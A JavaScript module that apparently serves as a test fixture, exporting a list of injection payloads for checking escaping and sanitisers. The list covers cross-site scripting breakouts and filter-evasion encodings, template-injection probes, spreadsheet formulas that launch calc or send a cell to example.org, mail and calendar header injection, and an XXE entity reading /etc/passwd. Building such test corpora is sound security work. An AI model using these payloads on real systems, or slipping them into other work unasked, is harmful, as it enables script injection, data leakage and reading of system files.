/** What runs wherever it is taken for markup. */
const MARKUP = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<details open ontoggle=alert(1)>',
];

/** What ends the places where a page may have put a text, so that what follows is markup. */
const AFTER = [
  '',
  '">',
  "'>",
  'x>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</noscript>',
  '</template>',
  '-->',
  '<!-->',
  ']]>',
];

/** What adds an attribute that runs, to the tag in whose attribute a page may have put a text. */
const ATTRIBUTES = ['"', "'", '`', ' '].flatMap(quote =>
  ['onfocus', 'onmouseover', 'onanimationstart'].map(
    event => `x${quote} autofocus ${event}=${quote}alert(1)`,
  ),
);

/** Addresses that run when they are followed, and what makes them be followed. */
const ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'javascript&colon;alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
].flatMap(address => [address, `[x](${address})`, `<a href="${address}">x</a>`]);

/** What leaves a text in a script. */
const SCRIPTS = ["'-alert(1)-'", '"-alert(1)-"', "\\';alert(1)//", 'x\u2028alert(1)//', '*/alert(1)/*'];

/** What engines of templates compute. */
const TEMPLATES = [
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that it looks like one is the point.
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '<%= 7*7 %>',
  '#{7*7}',
  '{% debug %}',
  '[[#{7*7}]]',
];

/** What a sheet computes, or starts. */
const FORMULAS = ['=', '+', '-', '@'].flatMap(sign =>
  ['cmd|"/C calc"!A0', 'HYPERLINK("http://example.org?"&A1)'].map(formula => sign + formula),
);

/** What ends a line of a calendar or a mail and writes the next one. */
const LINES = [
  'x\nEND:VEVENT\nBEGIN:VEVENT\nATTACH:javascript:alert(1)',
  'x\nBcc: everybody@example.org',
  'x\n\n<script>alert(1)</script>',
];

/** What is markup only after it was decoded or made simpler once too often. */
const DISGUISED = [
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '<scr\u200bipt>alert(1)</scr\u200bipt>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '\u202e>tpircs/<>tpircs<',
];

/** What sends the reader, or what they type, elsewhere without any script; and what reads files where XML is parsed. */
const ELSEWHERE = [
  '<base href="//example.org/">',
  '<meta http-equiv="refresh" content="0;url=//example.org/">',
  '<form action="//example.org"><input name="password">',
  '<style>@import "//example.org/x.css"</style>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
];

/** What runs in many of these places at once. */
const EVERYWHERE = [
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e`,
  `javascript:/*--></title></style><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
];

/** Texts that would run, or break out, wherever they were taken for markup, a script, an address or a formula. */
export const POLYGLOTS = [
  ...AFTER.flatMap(end => MARKUP.map(markup => end + markup)),
  ...[ATTRIBUTES, ADDRESSES, SCRIPTS, TEMPLATES, FORMULAS, LINES, DISGUISED, ELSEWHERE, EVERYWHERE].flat(),
];
